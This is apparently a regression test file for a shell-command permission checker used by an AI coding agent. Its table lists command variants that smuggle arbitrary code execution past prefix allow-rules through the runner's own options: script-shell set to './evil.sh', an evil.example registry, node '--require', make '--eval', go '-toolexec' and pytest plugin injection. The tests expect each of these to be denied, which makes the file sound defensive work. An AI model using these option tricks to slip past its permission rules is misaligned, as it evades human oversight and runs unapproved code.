// Issue 18, class 6: a runner's own options after an allowed prefix. Under `Bash(npm run lint:*)`,
// `npm run lint --script-shell=./evil.sh` runs evil.sh: options the runner reads itself are judged as
// dangerous options are elsewhere, while options after the runner's `--` (or after the script name,
// where the runner passes them on) stay the script's, as the rule says.
import { describe, expect, it } from "vitest";
import { analyzeShellCommand } from "../../../src/policy/shell/analyze";
import { decider, policyFrom, resolverFor } from "../support/world";
import { regressionTable, regressionWorld } from "./support";

const rw = regressionWorld();

regressionTable("npm under Bash(npm run lint:*) and Bash(npm test)", rw, [
  {
    cmd: "npm run lint --script-shell=./evil.sh",
    default: "deny",
    scoped: "deny",
    why: /npm reads as its own configuration/,
  },
  { cmd: "npm run lint --prefix ..", default: "deny", scoped: "deny", why: /another directory/ },
  { cmd: "npm run lint -C ..", default: "deny", scoped: "deny" },
  { cmd: "npm run lint --userconfig=./x.npmrc", default: "deny", scoped: "deny" },
  { cmd: "npm run lint --globalconfig=./x", default: "deny", scoped: "deny" },
  { cmd: "npm run lint --node-options=--require=./x.js", default: "deny", scoped: "deny" },
  { cmd: "npm run lint -w ../..", default: "deny", scoped: "deny", why: /other packages/ },
  { cmd: "npm run lint --workspace=../..", default: "deny", scoped: "deny" },
  { cmd: "npm run lint --registry=https://evil.example", default: "deny", scoped: "deny" },
  { cmd: "npm run lint --fix", default: "deny", scoped: "deny", why: /after --/ },
  { cmd: "npm run lint -c id", default: "deny", scoped: "deny" },
  { cmd: "npm_config_script_shell=./x npm run lint", default: "deny", scoped: "deny", why: /npm_config/ },
  { cmd: "npm test --script-shell=./evil.sh", default: "deny", scoped: "deny" },
  { cmd: "npm run lint", default: "deny", scoped: "allow" },
  { cmd: "npm run lint -- --fix", default: "deny", scoped: "allow" },
  { cmd: "npm run lint -- --script-shell=./x", default: "deny", scoped: "allow" },
  { cmd: "npm run lint --silent", default: "deny", scoped: "allow" },
  { cmd: "npm run lint --if-present", default: "deny", scoped: "allow" },
  { cmd: "npm run lint --loglevel warn", default: "deny", scoped: "allow" },
  { cmd: "npm test", default: "deny", scoped: "allow" },
]);

describe("other runners, under a rule that allows each by prefix", () => {
  const policy = `permissions:
  allow:
    - "Bash(npx vitest run:*)"
    - "Bash(pnpm run lint:*)"
    - "Bash(pnpm lint:*)"
    - "Bash(yarn lint:*)"
    - "Bash(bun test:*)"
    - "Bash(make test:*)"
    - "Bash(cargo test:*)"
    - "Bash(pip install -r requirements.txt:*)"
    - "Bash(uv run pytest:*)"
    - "Bash(poetry run pytest:*)"
    - "Bash(pytest:*)"
    - "Bash(python3 -m pytest:*)"
    - "Bash(go test:*)"
    - "Bash(gradle test:*)"
    - "Bash(mvn test:*)"
    - "Bash(mvn test -DskipTests:*)"
`;
  it.each([
    ["npx vitest run --reporter=./x.js", "allow"],
    ["npx --node-options=--require=./x.js vitest run", "deny"],
    ["npx -c id vitest run", "deny"],
    ["pnpm run lint --fix", "allow"],
    ["pnpm run --filter x lint", "deny"],
    ["pnpm lint --fix", "allow"],
    ["pnpm -C .. lint", "deny"],
    ["pnpm --config.script-shell=./x lint", "deny"],
    ["yarn lint --fix", "allow"],
    ["yarn --use-yarnrc ./x lint", "deny"],
    ["yarn --cwd .. lint", "deny"],
    ["bun test src", "allow"],
    ["bun test --preload ./x.ts", "deny"],
    ["bun test --watch", "allow"],
    ["make test", "allow"],
    ["make test -j4 -k", "allow"],
    ["make test -f evil.mk", "deny"],
    ["make test -kf evil.mk", "deny"],
    ["make test SHELL=./evil.sh", "deny"],
    ["make test -C ..", "deny"],
    ["make test --eval='x: ; id'", "deny"],
    ["cargo test", "allow"],
    ["cargo test -- --nocapture", "allow"],
    ["cargo test --config target.x.runner='./x'", "deny"],
    ["cargo test -Zunstable-options", "deny"],
    ["cargo test --manifest-path=../x/Cargo.toml", "deny"],
    ["pip install -r requirements.txt", "allow"],
    ["pip install -r requirements.txt --index-url=https://evil.example", "deny"],
    ["pip install -r requirements.txt -t /tmp/x", "deny"],
    ["uv run pytest -q", "allow"],
    ["uv run --with=evil pytest", "deny"],
    ["uv run --python=./x pytest", "deny"],
    ["uv run pytest -p evil", "deny"],
    ["poetry run pytest -x", "allow"],
    ["poetry run pytest -p evil", "deny"],
    ["pytest -q tests", "allow"],
    ["pytest -p evil", "deny"],
    ["pytest -o addopts=-pevil", "deny"],
    ["pytest --rootdir=..", "deny"],
    ["pytest -- -p", "allow"],
    ["python3 -m pytest -q", "allow"],
    ["python3 -m pytest -p evil", "deny"],
    ["go test ./...", "allow"],
    ["go test -run TestX -count=1 ./...", "allow"],
    ["go test -exec ./x ./...", "deny"],
    ["go test -toolexec=./x ./...", "deny"],
    ["go test --exec=./x ./...", "deny"],
    ["go test -ldflags=-extld=./x ./...", "deny"],
    ["gradle test", "allow"],
    ["gradle test -I ./x.gradle", "deny"],
    ["gradle test -Dorg.gradle.jvmargs=-javaagent:x.jar", "deny"],
    ["mvn test", "allow"],
    ["mvn test -DskipTests", "allow"],
    ["mvn test -Dexec.executable=./x", "deny"],
    ["mvn test -s ./settings.xml", "deny"],
  ] as const)("%s → %s", async (command, expected) => {
    const decide = decider(
      rw.world,
      resolverFor(rw.world, await policyFrom(rw.world, policy), { analyzeShell: analyzeShellCommand }),
    );
    const decision = await decide("Bash", { command });
    expect(decision.behavior, decision.reason).toBe(expected);
    if (expected === "deny") expect(decision.reason).toMatch(/does not name that option|uses /);
  });

  it("a rule that names the option allows it", async () => {
    const named = `permissions:\n  allow: ["Bash(npm run lint --fix:*)", "Bash(make test -f ci.mk)"]\n`;
    const decide = decider(
      rw.world,
      resolverFor(rw.world, await policyFrom(rw.world, named), { analyzeShell: analyzeShellCommand }),
    );
    expect((await decide("Bash", { command: "npm run lint --fix" })).behavior).toBe("allow");
    expect((await decide("Bash", { command: "make test -f ci.mk" })).behavior).toBe("allow");
    expect((await decide("Bash", { command: "npm run lint --fix --script-shell=./x" })).behavior).toBe(
      "deny",
    );
  });
});
